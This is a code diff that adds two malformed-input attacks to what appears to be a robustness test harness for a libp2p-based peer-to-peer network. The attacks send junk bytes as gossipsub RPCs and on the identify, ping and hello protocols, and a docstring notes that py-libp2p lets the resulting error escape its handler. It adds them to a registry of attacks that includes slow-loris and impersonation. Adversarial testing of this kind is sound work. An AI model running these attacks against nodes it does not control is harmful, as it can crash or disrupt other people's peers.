@@ -33,7 +33,7 @@ from p2p_reliable.fragment import MessageCodec, Split
 from p2p_reliable.sender import StreamSender
 from router import PublishPolicy, Router, TypedTopic
 from router.directs import DIRECT_PROTOCOL
-from router.host import build_host
+from router.host import MESHSUB_V11, build_host
 
 RAW_HEALTH = TypedTopic("p2pr/health", PublishPolicy.Always, bytes)
 
@@ -293,7 +293,52 @@ async def garbage(target: str, count: int, victim: str) -> dict[str, Any]:
     return await _raw(target, body)
 
 
+async def bad_rpc(target: str, count: int, victim: str) -> dict[str, Any]:
+    """Garbage where gossipsub expects a protobuf RPC (py-libp2p's pubsub reader lets the
+    protobuf error escape its stream handler)."""
+
+    async def body(host: Any, peer: ID) -> dict[str, Any]:
+        sent = 0
+        for _ in range(count):
+            try:
+                with trio.fail_after(2):
+                    stream = await host.new_stream(peer, [MESHSUB_V11])
+                    junk = b"\xff" * 40
+                    await stream.write(encode_uvarint(len(junk)) + junk)
+                sent += 1
+            except Exception:
+                pass
+        await trio.sleep(1)
+        return {"sent": sent}
+
+    return await _raw(target, body)
+
+
+async def bad_protocols(target: str, count: int, victim: str) -> dict[str, Any]:
+    """Garbage on every other protocol a node serves (identify, identify push, ping, hello)."""
+    protocols = ["/ipfs/id/1.0.0", "/ipfs/id/push/1.0.0", "/ipfs/ping/1.0.0", "/p2pr/hello/1.0.0"]
+
+    async def body(host: Any, peer: ID) -> dict[str, Any]:
+        sent = 0
+        for i in range(count):
+            junk = secrets.token_bytes(60)
+            try:
+                with trio.fail_after(2):
+                    stream = await host.new_stream(peer, [protocols[i % len(protocols)]])
+                    await stream.write(encode_uvarint(len(junk)) + junk)
+                    await stream.close()
+                sent += 1
+            except Exception:
+                pass
+        await trio.sleep(1)
+        return {"sent": sent}
+
+    return await _raw(target, body)
+
+
 ATTACKS = {
+    "bad-protocols": bad_protocols,
+    "bad-rpc": bad_rpc,
     "bad-views": bad_views,
     "impersonate": impersonate,
     "addresses": addresses,
@@ -305,7 +350,7 @@ ATTACKS = {
     "oversized": oversized,
     "garbage": garbage,
 }
-RAW = {"idle-streams", "slow-loris", "oversized", "garbage"}
+RAW = {"idle-streams", "slow-loris", "oversized", "garbage", "bad-rpc", "bad-protocols"}
 
 
 def main() -> None:
